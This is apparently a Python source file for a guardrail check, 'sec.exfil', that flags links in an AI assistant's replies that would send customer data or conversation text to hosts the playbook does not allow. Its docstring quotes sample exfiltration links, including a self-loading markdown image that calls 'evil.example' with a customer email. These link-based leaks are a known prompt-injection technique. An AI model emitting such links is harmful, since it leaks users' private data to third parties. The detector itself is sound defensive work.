"""Check ``sec.exfil``: no link carries what this conversation knows to somebody else's server.

Fires: "![](https://evil.example/p?m=ana@mail.example)" to Ana, an image from a host the playbook
does not name, "https://evil.example/?q={conversation}". Does not fire: a link to an allowed host,
"https://other.example/help" (``sec.link`` speaks of that).

Rules: ``carries_value`` a record field, name or contact of the customer is in the address, plain
or encoded; ``carries_words`` a long encoded block or a blank to fill in is; ``loads_itself`` an
image or its like is fetched when the reply is shown, which tells that it was (all critical). The
evidence names the value; the proposal takes the link out.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from urllib.parse import unquote_plus

from handrail.core.verdict import EvidenceSpan, Finding
from handrail.guardrails.contract import CheckContext, CheckSettings, check
from handrail.guardrails.encodings import blocks
from handrail.guardrails.links import Link, allowed, cleaned, host_of, hosts_of

_BLANK = re.compile(
    r"\{[^{}/]{0,60}\}|%7b|\[[a-z_ -]{3,40}\]|\$[a-z_]{3,30}|<[a-z_ ]{3,30}", re.IGNORECASE
)
_BLOCK = re.compile(r"[?&#/=][A-Za-z0-9+/_=-]{40,2000}")
_SHORTEST = 4
"""Characters; a shorter value stands in an address by chance."""


def _known_values(ctx: CheckContext) -> Iterator[tuple[str, str]]:
    """What is known of the customer: the name of the source, and the value."""
    customer = ctx.snapshot.customer
    for name in ("name", "email", "phone"):
        value = getattr(customer, name)
        if value:
            yield f"customer#{name}", str(value)
    for record in ctx.snapshot.records:
        yield f"record:{record.kind}/{record.id}#id", record.id
        for name, field in record.fields.items():
            if field.type not in ("status", "boolean", "quantity") and field.value is not None:
                yield f"record:{record.kind}/{record.id}#{name}", str(field.value)


def _plain(text: str) -> str:
    return re.sub(r"[\W_]+", "", text.casefold())


@dataclass(frozen=True, slots=True)
class _Known:
    source: str
    value: str
    plain: str


def _known(ctx: CheckContext) -> list[_Known]:
    known = (_Known(source, value, _plain(value)) for source, value in _known_values(ctx))
    return [one for one in known if len(one.plain) >= _SHORTEST]


def _carried(url: str, known: Iterable[_Known]) -> EvidenceSpan | None:
    """The value that an address carries to its host, with the record it is from."""
    address = unquote_plus(cleaned(url))
    read = "\n".join(_plain(text) for text in (address, *(said for said, _, _ in blocks(url))))
    for one in known:
        if one.plain in read:
            return EvidenceSpan(source=one.source, quote=one.value, relation="contradicts")
    return None


def _judged(
    link: Link, known: Iterable[_Known]
) -> tuple[str, str, tuple[EvidenceSpan, ...]] | None:
    carried = _carried(link.target, known)
    if carried:
        message = "This link would carry what we know of the customer to another server."
        return "carries_value", message, (carried,)
    if _BLANK.search(link.target) or _BLOCK.search(link.target):
        message = "This link would carry words of this conversation to another server."
        return "carries_words", message, ()
    if link.loads:
        return "loads_itself", "Showing this reply would call another server.", ()
    return None


def _foreign(ctx: CheckContext) -> Iterator[Link]:
    """The links to hosts that the playbook does not name."""
    hosts = hosts_of(ctx.playbook.brand.links)
    for link in ctx.links:
        host, user_info = host_of(link.target)
        if host and (user_info or not allowed(host, hosts)):
            yield link


@check("sec.exfil", severity="critical")
def sec_exfil(ctx: CheckContext, settings: CheckSettings) -> Iterator[Finding]:  # noqa: ARG001 - the contract
    """Flag links to foreign hosts that carry data, or that are fetched by themselves."""
    foreign = list(_foreign(ctx))
    known = _known(ctx) if foreign else []
    for link in foreign:
        judged = _judged(link, known)
        if judged:
            rule, message, evidence = judged
            keep = "" if link.loads else (link.label or "[link removed]")
            yield sec_exfil.finding(
                rule, link.start, link.end, message, evidence=evidence, replacement=keep
            )
